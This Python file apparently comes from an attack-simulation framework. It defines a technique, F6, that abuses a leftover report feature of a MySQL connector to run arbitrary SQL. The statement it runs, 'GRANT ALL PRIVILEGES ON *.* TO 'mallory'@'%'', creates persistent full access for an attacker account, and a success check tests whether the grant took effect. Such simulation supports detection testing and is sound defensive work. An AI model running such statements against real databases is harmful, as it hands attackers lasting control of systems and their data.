"""F6: a new account with all rights stays when the hole is closed."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedConnector, obeyed, told


class GrantsAll(AbusedConnector):
    """On mysql-connector-python: a page for reports that was left behind, and runs whatever it is given."""

    code = "F6"
    attack = "grants all rights to an account of the attacker's"
    reference = "https://attack.mitre.org/techniques/T1136/"
    rule = "privilege-change"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("GRANT ALL PRIVILEGES ON *.* TO 'mallory'@'%'")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"GRANT ALL")
